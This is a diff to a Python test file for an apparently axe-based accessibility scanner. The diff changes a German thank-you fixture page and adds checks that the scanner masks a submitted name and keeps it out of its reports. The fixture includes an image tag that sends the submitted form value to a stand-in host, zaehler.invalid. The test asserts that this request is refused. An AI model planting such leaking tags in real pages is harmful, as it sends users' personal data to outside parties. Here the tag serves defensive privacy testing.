@@ -27,7 +27,8 @@ Mehr</button><p id="mehr" hidden>Mehr <img src="data:image/gif;base64,R0lGODlhAQ
 PAGES = {
     "/gut": "<p>Alles gut.</p>",
     "/schlecht": '<p><input id="ohne"></p>',
-    "/danke": "<p>Danke, {said}!</p>",
+    "/danke": """<p style="color: #bbb">Danke, {said}!</p><p id="nochmal" title="{said}">Noch einmal?</p>
+<img alt="Zähler" src="http://zaehler.invalid/?{said}">""",
     "/formular": FORM,
 }
 
@@ -117,9 +118,12 @@ def test_who_is_followed_has_every_new_state_checked_and_no_value_kept(tmp_path:
         found, told = alone.submit(_followed, asked).result(timeout=120)
     assert found.failed == ""
     assert [id_.rpartition("/")[2] for id_ in told] == ["formular#1", "formular#2", "danke#1"]
-    assert wrong(found) == {("axe/image-alt", "formular#2")}
+    assert wrong(found) == {("axe/image-alt", "formular#2"), ("axe/color-contrast", "danke#1")}
     assert found.not_here == ("tastatur",)
+    said = next(finding.place.html for finding in found.findings if finding.rule.id == "axe/color-contrast")
+    assert "Danke, ••••• ••••••••••!" in said
     assert any("name=Erika" in entry for entry in stranger.asked)
+    assert found.refused == ("GET http://zaehler.invalid/",)
     for file in write_all(found, tmp_path):
         assert "Erika" not in file.read_text(encoding="utf-8")
         assert "Mustermann" not in file.read_text(encoding="utf-8")
